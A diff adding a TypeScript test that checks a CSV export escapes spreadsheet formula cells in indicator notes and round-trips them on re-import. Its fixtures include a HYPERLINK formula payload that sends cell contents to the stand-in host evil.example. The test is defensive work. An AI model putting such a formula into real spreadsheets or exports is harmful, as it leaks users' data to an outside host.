@@ -154,3 +154,68 @@ describe('exportActuals', () => {
     expect(rows.map((r) => [r.indicator_name, r.value])).toEqual([['経常収支比率', '84.0%']]);
   });
 });
+
+describe('exportActuals in a spreadsheet', () => {
+  // Notes a spreadsheet would run as formulas, and notes that already start with the guard quote.
+  const notes = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '+1',
+    '-x',
+    '@SUM(A1)',
+    '\tTab-led',
+    '\rCR-led',
+    "'=already quoted",
+    "'plain quote",
+  ];
+  const years = [
+    ['経常収支比率', 2022],
+    ['経常収支比率', 2024],
+    ['経常収支比率', 2025],
+    ['経常収支比率', 2026],
+    ['区政に関心がある区民の割合', 2022],
+    ['区政に関心がある区民の割合', 2023],
+    ['区政に関心がある区民の割合', 2024],
+    ['区政に関心がある区民の割合', 2025],
+  ] as const;
+
+  async function notesNow(): Promise<string[]> {
+    const out: string[] = [];
+    for (const [name, year] of years) {
+      const [row] = (await app.db.dataSource.query(
+        `SELECT r.note FROM actual a JOIN actual_revision r ON r.actual_id = a.id AND r.revision = a.revision
+           JOIN indicator i ON i.id = a.indicator_id JOIN plan p ON p.id = a.plan_id
+          WHERE p.code = 'arakawa' AND i.name = $1 AND a.fiscal_year = $2`,
+        [name, year],
+      )) as { note: string }[];
+      out.push(row.note);
+    }
+    return out;
+  }
+
+  it('neutralises formula cells, and the import restores them exactly', async () => {
+    for (const [i, [name, year]] of years.entries()) {
+      const res = await a.record(a.tokens.editor, name, year, i < 4 ? '85.0%' : '50.0%', { note: notes[i] });
+      expect(res.errors).toBeUndefined();
+    }
+    const exported = await exportCsv(a.tokens.editor);
+    // Opened as a spreadsheet would: every cell as written, nothing trimmed.
+    const cells = (parse(exported, { columns: true }) as Record<string, string>[]).map((r) => r.note);
+    for (const note of notes.slice(0, 7)) {
+      expect(cells).toContain(`'${note}`);
+      expect(exported).toContain(`"'${note.replace(/"/g, '""')}"`);
+    }
+    expect(cells).toContain("'plain quote");
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+
+    // Unchanged on re-import: every stripped cell equals the stored note.
+    const before = await a.revisionCount();
+    const again = await importCsv(exported, false);
+    expect(again).toMatchObject({ applied: true, created: 0, revised: 0, errors: [] });
+    expect(await a.revisionCount()).toBe(before);
+
+    // Edited values, the same notes: the notes come back as they were recorded.
+    const edited = exported.replace(/,85\.0%,/g, ',84.0%,').replace(/,50\.0%,/g, ',51.0%,');
+    expect(await importCsv(edited, false)).toMatchObject({ applied: true, revised: 8, errors: [] });
+    expect(await notesNow()).toEqual(notes);
+  });
+});
